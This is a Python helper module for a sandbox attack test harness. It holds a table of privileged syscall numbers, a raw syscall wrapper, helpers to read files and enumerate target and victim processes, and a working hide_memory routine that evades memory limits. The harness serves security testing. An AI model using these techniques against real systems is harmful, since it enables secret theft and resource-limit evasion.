"""The helpers of all attacks: this text stands before each attack's own function, and runs in the sandbox."""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import platform
import sys
import types
from collections.abc import Callable
from typing import Any

DESCRIPTION: str = "{}"
targets: Any = types.SimpleNamespace(**json.loads(DESCRIPTION))
"""The names and numbers of the attack's targets, without the secret that the targets hold."""

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
X86 = platform.machine() == "x86_64"
NUMBERS = {  # name: on x86_64, elsewhere (-1: none there)
    "accept": (43, 202),
    "acct": (163, 89),
    "add_key": (248, 217),
    "adjtimex": (159, 171),
    "bind": (49, 200),
    "bpf": (321, 280),
    "chroot": (161, 51),
    "clock_settime": (227, 112),
    "clone": (56, 220),
    "clone3": (435, 435),
    "connect": (42, 203),
    "delete_module": (176, 106),
    "fanotify_init": (300, 262),
    "finit_module": (313, 273),
    "fsopen": (430, 430),
    "inotify_init1": (294, 26),
    "io_uring_setup": (425, 425),
    "ioperm": (173, -1),
    "iopl": (172, -1),
    "ioprio_set": (251, 30),
    "kcmp": (312, 272),
    "kexec_load": (246, 104),
    "keyctl": (250, 219),
    "listen": (50, 201),
    "mbind": (237, 235),
    "memfd_create": (319, 279),
    "memfd_secret": (447, 447),
    "migrate_pages": (256, 238),
    "mknodat": (259, 33),
    "modify_ldt": (154, -1),
    "mount": (165, 40),
    "mount_setattr": (442, 442),
    "move_mount": (429, 429),
    "move_pages": (279, 239),
    "mq_open": (240, 180),
    "msgget": (68, 186),
    "name_to_handle_at": (303, 264),
    "open_by_handle_at": (304, 265),
    "open_tree": (428, 428),
    "perf_event_open": (298, 241),
    "personality": (135, 92),
    "pidfd_getfd": (438, 438),
    "pivot_root": (155, 41),
    "prlimit64": (302, 261),
    "process_madvise": (440, 440),
    "process_vm_readv": (310, 270),
    "process_vm_writev": (311, 271),
    "ptrace": (101, 117),
    "quotactl": (179, 60),
    "reboot": (169, 142),
    "request_key": (249, 218),
    "rt_sigqueueinfo": (129, 138),
    "sched_setaffinity": (203, 122),
    "sched_setattr": (314, 274),
    "sched_setscheduler": (144, 119),
    "seccomp": (317, 277),
    "semget": (64, 190),
    "set_mempolicy": (238, 237),
    "setdomainname": (171, 162),
    "sethostname": (170, 161),
    "setns": (308, 268),
    "setpriority": (141, 140),
    "setsockopt": (54, 208),
    "settimeofday": (164, 170),
    "shmget": (29, 194),
    "socket": (41, 198),
    "splice": (275, 76),
    "swapoff": (168, 225),
    "swapon": (167, 224),
    "syslog": (103, 116),
    "tee": (276, 77),
    "tgkill": (234, 131),
    "umount2": (166, 39),
    "unshare": (272, 97),
    "userfaultfd": (323, 282),
    "vhangup": (153, 58),
    "vmsplice": (278, 75),
}


def call(name: str, *arguments: Any) -> int:
    """Make a system call without the C library's wrapper; returns the negative error number if the call failed."""
    number = NUMBERS[name][0 if X86 else 1]
    if number < 0:
        return -38
    converted = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    result = libc.syscall(ctypes.c_long(number), *converted)
    return result if result >= 0 else -ctypes.get_errno()


def breached(how: object = "") -> None:
    """Print that the attack reached its aim."""
    with contextlib.suppress(Exception):
        sys.__stdout__.write(f"BREACHED {how}\n")  # pyright: ignore[reportOptionalMemberAccess]
        sys.__stdout__.flush()  # pyright: ignore[reportOptionalMemberAccess]


def trying() -> contextlib.suppress:
    """Ignore exceptions in the block: the attack's next try may succeed."""
    return contextlib.suppress(Exception)


def attempt(what: Callable[..., Any], *arguments: Any) -> bool:
    """Call a function; returns whether the call raised no error."""
    try:
        what(*arguments)
    except (Exception, SystemExit):
        return False
    return True


def show(found: object) -> None:
    """Print what the attack found, because the judge looks for the secret in the output."""
    text = found.decode("latin-1") if isinstance(found, bytes) else str(found)
    print(text.replace("\0", " ")[:20000], flush=True)


def read(path: str, size: int = 20000) -> bytes:
    """Return the first bytes of a file."""
    descriptor = os.open(path, os.O_RDONLY)
    try:
        return os.read(descriptor, size)
    finally:
        os.close(descriptor)


def processes() -> list[int]:
    """Return the numbers of all processes that the program can see, and a few more that may exist."""
    seen = [int(name) for name in os.listdir("/proc") if name.isdigit()] if os.access("/proc", os.R_OK) else []
    return sorted({*seen, *range(1, 40), os.getppid(), targets.trainer, targets.victim})


def hide_memory(descriptor: int, flags: int) -> None:
    """Write to shared pages, unmap all but one page of each mapping, and so hold memory that is hardly resident."""
    libc.mmap.restype = ctypes.c_void_p
    step, piece = 32 << 20, 4 << 20
    wanted = 2 * targets.limits["memory_mb"] << 20
    for _ in range(0, wanted, step):
        place = libc.mmap(None, ctypes.c_size_t(step), 3, flags, descriptor, ctypes.c_long(0))
        if place in (None, ctypes.c_void_p(-1).value):
            return
        for start in range(0, step, piece):
            ctypes.memset(place + start, 1, piece)
            libc.madvise(ctypes.c_void_p(place + start), ctypes.c_size_t(piece), 4)
        libc.munmap(ctypes.c_void_p(place + 4096), ctypes.c_size_t(step - 4096))
    breached(f"{wanted >> 20} MB")
